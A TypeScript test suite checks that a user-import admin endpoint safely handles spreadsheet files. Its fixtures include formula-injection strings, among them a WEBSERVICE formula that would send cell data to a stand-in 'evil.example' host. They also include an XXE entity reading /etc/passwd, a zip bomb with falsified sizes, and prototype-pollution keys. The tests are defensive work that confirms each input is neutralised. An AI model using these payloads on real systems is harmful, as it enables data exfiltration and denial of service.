import { readXlsx } from 'hucre/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp } from '#core/testing/test-app.ts';
import type { Answer, TestApp } from '#core/testing/test-app.ts';
import { upload } from '#core/testing/upload.ts';
import { buildZip } from '@wm/bytes/testing/build-zip';
import { workbookParts } from '#core/testing/workbook-parts.ts';
import { importFile } from '../support/import-rows.ts';

const users = '/admin/v2/system/user';
const path = `${users}/import`;
const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("http://evil.example","x")'];
let app: TestApp;

beforeAll(async () => {
  app = await startTestApp();
});
afterAll(() => app.stop());

const send = (bytes: Uint8Array, name = 'a.xlsx'): Promise<Answer> =>
  upload(app.admin, path, { name, bytes });

async function bring(rows: (string | number)[][], url = path): Promise<void> {
  const checked = await upload(app.admin, url, { name: 'a.xlsx', bytes: await importFile(rows) });
  expect(checked.data.faults).toEqual([]);
  const { data } = await app.admin.post(`${path}/${checked.data.id}/run`);
  await expect
    .poll(async () => (await app.admin.get(`/admin/v2/tasks/${data.task_id}`)).data.status, {
      timeout: 20_000,
    })
    .toBe('done');
}

describe('I09 formulas', () => {
  it('I09 stay texts on the way in, come out as texts, and survive the way there and back', async () => {
    const rows = formulas.map((text, at) => [`formula${at}`, `名${at}`, text, 'pass-word-1']);
    await bring([['用户名', '姓名', '备注', '初始密码'], ...rows]);
    const query = { username: 'formula', sort: 'id' };
    const { data } = await app.admin.get(`${users}?username=formula&sort=id`);
    expect(data.rows.map((row: { remark: string }) => row.remark)).toEqual(formulas);
    const file = await app.admin.post(`${users}/export`, query);
    const sheet = (await readXlsx(file.bytes)).sheets[0];
    const [head = [], ...cells] = sheet?.rows ?? [];
    const at = head.indexOf('备注');
    expect(cells.map((row) => row[at])).toEqual(formulas.map((text) => `'${text}`));
    const again = await upload(app.admin, `${path}?update_existing=true`, {
      name: 'a.xlsx',
      bytes: file.bytes,
    });
    expect(again.data).toMatchObject({ same: formulas.length, update: 0, faults: [] });
  });

  it('I09 in what a file got wrong do not run in the list of faults either', async () => {
    const rows = formulas.map((text, at) => [`fault${at}`, '名', text]);
    const checked = await send(await importFile([['用户名', '姓名', '邮箱'], ...rows]));
    const file = await app.admin.get(`${path}/${checked.data.id}/faults`);
    const cells = (await readXlsx(file.bytes)).sheets[0]?.rows.slice(1).map((row) => row[2]) ?? [];
    const mails = cells.filter((cell) => String(cell).startsWith("'"));
    expect(mails).toEqual(formulas.map((text) => `'${text}`));
  });

  it('I09 are read by the result they were saved with, never worked out', async () => {
    const sheet = `<row r="1"><c r="A1" t="inlineStr"><is><t>用户名</t></is></c></row>
      <row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example/"&amp;A1)</f><v>from_formula</v></c></row>`;
    const { data } = await send(buildZip(workbookParts(sheet)));
    expect(data.preview[0].cells).toEqual(['from_formula']);
  });
});

describe('F06 and F08 hostile files', () => {
  it('F06 a bomb is refused without its size being believed, and others are answered meanwhile', async () => {
    const head = '<row><c t="inlineStr"><is><t>用户名</t></is></c></row>';
    const row = `<row><c t="inlineStr"><is><t>${'0'.repeat(30_000)}</t></is></c></row>`;
    const bomb = buildZip(
      workbookParts(`${head}${row.repeat(4000)}`).map((part) => ({ ...part, declaredBytes: 10 })),
    );
    const [refused, other] = await Promise.all([send(bomb), app.admin.get(`${users}?limit=1`)]);
    expect(refused).toMatchObject({ code: 601, msg: '文件展开后过大，已停止读取' });
    expect(other.code).toBe(200);
  });

  it('F06 a row at the far corner costs nothing', async () => {
    const corner = `<row r="1"><c r="A1" t="inlineStr"><is><t>用户名</t></is></c></row><row r="1048576"><c r="A1048576" t="inlineStr"><is><t>corner</t></is></c></row>`;
    expect((await send(buildZip(workbookParts(corner)))).data.preview[0]).toMatchObject({
      row: 1_048_576,
      cells: ['corner'],
    });
    const far = '<row r="1"><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>';
    expect((await send(buildZip(workbookParts(far)))).msg).toBe('表格的列过多，请使用导入模板');
  });

  it('F08 a document type is refused, nothing is fetched', async () => {
    const head = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
    const sheet = '<row r="1"><c t="inlineStr"><is><t>&x;</t></is></c></row>';
    const answer = await send(buildZip(workbookParts(sheet, { head })));
    expect(answer.msg).toBe('文件已损坏，或不是表格文件');
    expect(answer.text).not.toContain('root:');
  });
});

describe('I08 names that every object has', () => {
  it('I08 as heads and as values change nothing but the row they stand in', async () => {
    const heads = await send(
      await importFile([
        ['用户名', '__proto__', 'constructor'],
        ['a', 'b', 'c'],
      ]),
    );
    expect(heads.msg).toBe('表头有不认识的列：__proto__、constructor，请使用导入模板');
    const values = await send(
      await importFile([
        ['用户名', '姓名', '部门', '性别', '状态', '角色', '岗位'],
        ['__proto__', 'x', 'constructor', 'toString', '__proto__', 'valueOf', 'hasOwnProperty'],
      ]),
    );
    expect(values.data.faults.map(({ column }: { column: string }) => column)).toEqual([
      '部门',
      '性别',
      '状态',
      '角色',
      '岗位',
      '初始密码',
    ]);
    expect(({} as Record<string, unknown>)['row']).toBeUndefined();
  });
});

describe('A04 what is not in a file', () => {
  it('A04 cannot be put into it: no column makes an administrator or hashes', async () => {
    for (const head of ['password_hash', 'is_admin', 'id', 'role_ids', '创建人']) {
      const answer = await send(
        await importFile([
          ['用户名', head],
          ['a', '1'],
        ]),
      );
      expect(answer.msg).toBe(`表头有不认识的列：${head}，请使用导入模板`);
    }
  });
});
